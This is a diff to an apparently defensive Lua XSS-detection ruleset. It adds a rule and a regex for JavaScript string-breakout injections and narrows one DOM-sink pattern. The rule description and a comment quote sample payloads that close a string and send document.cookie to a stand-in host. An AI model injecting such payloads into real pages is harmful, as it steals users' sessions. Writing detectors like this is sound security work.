@@ -52,6 +52,9 @@ _M.RULES = {
              .. "selector's rule)" },
     { id = "xss-dom", severity = "critical", pl = 1,
       desc = "DOM sink or script entry point called like code" },
+    { id = "xss-js-breakout", severity = "critical", pl = 1,
+      desc = "a JavaScript string the value closes, then a call and the rest of the "
+             .. "line commented out (x';fetch('//h/?'+document.cookie)//)" },
     { id = "xss-obfuscation", severity = "critical", pl = 1,
       desc = "JSFuck, tagged templates, spaced-out tag names" },
     { id = "xss-ssi", severity = "critical", pl = 1,
@@ -168,7 +171,7 @@ local RE_DOM = alt({
     CODE_BEFORE .. [=[(?:document|window|self|top|parent|frames|globalthis|content)\s*\.\s*]=]
         .. [=[queryselector(?:all)?\s*\(\s*(?:"[^"]*"|'[^']*'|`[^`]*`|[\w$.]+)\s*\)\s*]=]
         .. [=[(?:\[\s*\d+\s*\]\s*)?\.\s*(?:[\w$]+\s*=(?!=)]=]
-        .. [=[|(?:value|innerhtml|outerhtml|submit|click|insertadjacenthtml)\b)]=],
+        .. [=[|(?:innerhtml|outerhtml|submit|click|insertadjacenthtml)\b)]=],
     -- (called with nothing, eval and the timers run nothing, and an
     -- empty call a word follows is named in a sentence: "the alert()
     -- box", "`eval()` is slow")
@@ -247,6 +250,16 @@ local RE_MARKUP = [=[<[a-z][a-z0-9]*\s+[a-z-]+\s*=]=]
 -- fetches nothing until clicked.
 local RE_DANGLING = [=[<[a-z][a-z0-9]*[\s/][^<>]*?\b(?:src|background|poster|data|srcset)]=]
     .. [=[\s*=\s*(?:'(?:https?:)?//[^'<>]*|"(?:https?:)?//[^"<>]*)$]=]
+
+-- A JavaScript string the value closes (at most one token before the
+-- quote, an operator or ";" glued after it), a call, and "//" or "<!--"
+-- ending the line: the rest of the page's statement commented out
+-- ("x';fetch('//h/?'+document.cookie)//", "\";new Image().src=...//").
+-- Prose closes no quote after one token to go on with an operator, and
+-- code in a note starts with its own statement, not inside a string.
+-- (the call found by a lookahead and the end from the back: linear)
+local RE_JS_BREAKOUT = [=[^[^\s'"`]{0,32}['"`]\s*(?:;|\+|-|\*|\|\||&&|,|\)+\s*;?)]=]
+    .. [=[(?=[^\n]*?[\w$\])]\s*\()[^\n]*(?://|<!--)\s*$]=]
 
 local CSS_NEEDLES = { "expression", "binding", "behavio", "url", "@import", "image-set" }
 local DOM_NEEDLES = {
@@ -663,6 +676,8 @@ local RULES = rules.compile({
     { id = "xss-css", field = "css", needles = CSS_NEEDLES, pattern = RE_CSS },
     { id = "xss-dom", field = "cmp", where = NOT_PATH, needles = DOM_NEEDLES,
       before = dom_gate, pattern = RE_DOM },
+    { id = "xss-js-breakout", where = NOT_PATH, needles = { "//", "<!--" },
+      pattern = RE_JS_BREAKOUT, plain = false },
     { id = "xss-obfuscation", where = NOT_PATH, needles = { "[" },
       pattern = RE_OBFUSCATION },
     { id = "xss-obfuscation", field = "cmp", where = NOT_PATH, needles = { "`" },
